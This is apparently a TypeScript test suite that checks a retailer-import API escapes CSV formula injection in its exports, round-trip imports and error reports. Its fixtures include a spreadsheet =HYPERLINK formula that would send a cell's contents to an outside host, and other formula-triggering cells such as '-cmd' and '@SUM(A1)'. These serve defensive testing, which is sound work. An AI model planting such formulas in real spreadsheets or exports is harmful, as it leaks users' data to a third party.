import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { errorReport, retailerRow, retailersCsv, seedImportReference, upload } from './import-fixtures';
import { createTestApp, type TestApp } from './test-app';

const HYPERLINK = '=HYPERLINK("http://x?d="&D2,"详情")';

/** Cells that a spreadsheet would run as formulas, in every CSV the API writes (OWASP CSV injection). */
describe('CSV injection', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
    await seedImportReference(t.db);
    const { body } = await upload(
      t,
      'retailers',
      retailersCsv([
        retailerRow('421601000001', { shop_name: HYPERLINK }),
        retailerRow('421601000002', { shop_name: '-cmd', owner_name: '@SUM(A1)', preferences: '+1 细支' }),
        retailerRow('421601000003', { shop_name: '惠民便利店' }),
      ]),
    ).expect(201);
    expect(body.state).toBe('succeeded');
    // Text that starts with a quote of its own before a would-be formula must survive the round trip too.
    await t.db.query(`UPDATE retailer SET preferences = $1 WHERE licence_no = '421601000003'`, [
      "'=已经带引号",
    ]);
  });
  afterAll(() => t.close());

  const exportRows = async (): Promise<{ text: string; rows: Array<Record<string, string>> }> => {
    const response = await request(t.http).get('/api/customers/export').expect(200);
    return {
      text: response.text,
      rows: parse(response.text, { columns: true, bom: true }) as Array<Record<string, string>>,
    };
  };

  it('should store the names as they were typed', async () => {
    const rows = await t.db.query(`SELECT shop_name, owner_name FROM retailer ORDER BY licence_no`);
    expect(rows.slice(0, 2)).toEqual([
      { shop_name: HYPERLINK, owner_name: '张三' },
      { shop_name: '-cmd', owner_name: '@SUM(A1)' },
    ]);
  });

  it('should export every cell that would start a formula behind a quote, and numbers as numbers', async () => {
    const { rows } = await exportRows();
    expect(rows.map((row) => row.shop_name)).toEqual([`'${HYPERLINK}`, "'-cmd", '惠民便利店']);
    expect(rows[1]).toMatchObject({
      owner_name: "'@SUM(A1)",
      preferences: "'+1 细支",
      tier: '12',
      scale: '2',
    });
    expect(rows[2].preferences).toBe("''=已经带引号");
  });

  it('should import an exported file back unchanged', async () => {
    const before = await t.db.query(`SELECT * FROM retailer ORDER BY licence_no`);
    const { text } = await exportRows();
    const { body } = await upload(t, 'retailers', text).expect(201);
    expect(body).toMatchObject({ state: 'succeeded', rowsUpdated: 0, rowsInserted: 0, rowsUnchanged: 3 });
    expect(await t.db.query(`SELECT * FROM retailer ORDER BY licence_no`)).toEqual(before);
  });

  it('should neutralise the error report’s cells, keeping a negative number as it is', async () => {
    const { body } = await upload(
      t,
      'retailers',
      retailersCsv([
        retailerRow('421601000009', {
          scale: '-cmd',
          tier: '-5',
          order_day: '@SUM(A1)',
          birthday: HYPERLINK,
        }),
      ]),
    ).expect(201);
    expect(body.state).toBe('rejected');
    const values = Object.fromEntries((await errorReport(t, body.id)).map((row) => [row.field, row.value]));
    expect(values).toEqual({
      birthday: `'${HYPERLINK}`,
      order_day: "'@SUM(A1)",
      scale: "'-cmd",
      tier: '-5',
    });
  });

  it('should neutralise a hostile column name in the error report', async () => {
    const file = retailersCsv([retailerRow('421601000010')]).replace('licence_no,', '-evil,licence_no,');
    const { body } = await upload(t, 'retailers', file).expect(201);
    const report = await errorReport(t, body.id);
    expect(report).toContainEqual(expect.objectContaining({ field: "'-evil", value: "'-evil" }));
  });
});
